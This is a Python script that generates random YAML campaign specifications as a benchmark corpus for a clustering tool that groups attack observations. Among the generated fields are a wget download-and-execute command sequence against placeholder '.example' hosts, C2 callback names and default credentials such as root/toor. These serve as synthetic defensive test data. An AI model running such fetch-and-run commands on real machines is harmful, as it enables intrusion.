#!/usr/bin/env python3
"""random_spec.py - a random campaign DSL document (docs/dsl.md) for the small-corpus target of
issue 13: `cadre cluster` on ~4,500 observations of random specs with 400 campaigns and 3,000
noise scanners, whole process <= 30 ms (docs/bench.md (h)).

Usage: random_spec.py [--campaigns N] [--noise N] [--seed S] > spec.yaml

Each campaign has 1-3 actors (fingerprints drawn from small shared pools, so some campaigns
share a JA3 or a HASSH; some actors rotate over 2-4 IPs) and 1-5 phases with random targets,
commands, credentials, payloads and C2s. Standard library only; the same seed gives the
same document.
"""
import argparse
import random

PHASES = ["delivery", "exploitation", "command_and_control", "pivoting",
          "discovery", "credential_access", "persistence", "lateral_movement", "collection",
          "exfiltration", "execution", "privilege_escalation", "defense_evasion", "impact"]


def q(s):
    """A YAML double-quoted scalar."""
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"') + '"'


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--campaigns", type=int, default=400)
    ap.add_argument("--noise", type=int, default=3000)
    ap.add_argument("--seed", type=int, default=1)
    a = ap.parse_args()
    r = random.Random(a.seed)
    ja3s = [f"771,{r.randrange(4865, 49200)}-{r.randrange(4865, 49200)},0-23-65281,29-23-24,0"
            for _ in range(a.campaigns // 2)]
    hasshes = [f"{r.getrandbits(128):032x}" for _ in range(a.campaigns // 2)]
    out = ["corpus:", "  campaigns:"]
    for c in range(a.campaigns):
        out += ["    - campaign:", f"        id: rand-{c:04d}",
                f"        duration_days: {r.randint(1, 14)}", "        actors:"]
        actors = r.randint(1, 3)
        for k in range(actors):
            out += [f"          - id: op-{c}-{k}", f"            asn: {r.randrange(64512, 65535)}"]
            if r.random() < 0.8:
                out.append(f"            ja3: {q(r.choice(ja3s))}")
            if r.random() < 0.8:
                out.append(f"            hassh: {q(r.choice(hasshes))}")
            if r.random() < 0.5:
                out += ["            ip_pool: rotating",
                        f"            rotation_count: {r.randint(2, 4)}"]
            if r.random() < 0.2:
                out.append(f"            kd_simhash: \"{r.getrandbits(64):016x}\"")
            hours = sorted(r.sample(range(24), r.randint(3, 10)))
            out.append(f"            hours_active_utc: [{', '.join(map(str, hours))}]")
        out.append("        phases:")
        for _ in range(r.randint(1, 5)):
            out += [f"          - name: {r.choice(PHASES)}",
                    f"            actor: op-{c}-{r.randrange(actors)}",
                    f"            dwell_seconds: {r.randint(1, 600)}",
                    f"            target_selector: {{count: {r.randint(1, 6)}}}"]
            sig = []
            if r.random() < 0.4:
                payload = f"payload-{r.randrange(a.campaigns)}"
                sig.append(f"              payload_hash: {q(payload)}")
            if r.random() < 0.3:
                c2 = f"c2-{r.randrange(a.campaigns)}.example"
                sig.append(f"              c2_callback: {q(c2)}")
            if r.random() < 0.3:
                sig.append("              credentials: [[root, toor], [admin, "
                           f"{q(f'pw{r.randrange(50)}')}]]")
            if r.random() < 0.5:
                sig.append(f"              commands: [{q('uname -a')}, {q('cat /proc/cpuinfo')}, "
                           f"{q(f'wget http://x{r.randrange(99)}.example/s.sh -O /tmp/.s')}, "
                           f"{q('chmod +x /tmp/.s && /tmp/.s')}]")
            if sig:
                out += ["            tool_signature:"] + sig
    out += ["  noise:", f"    scanner_count: {a.noise}"]
    print("\n".join(out))


if __name__ == "__main__":
    main()
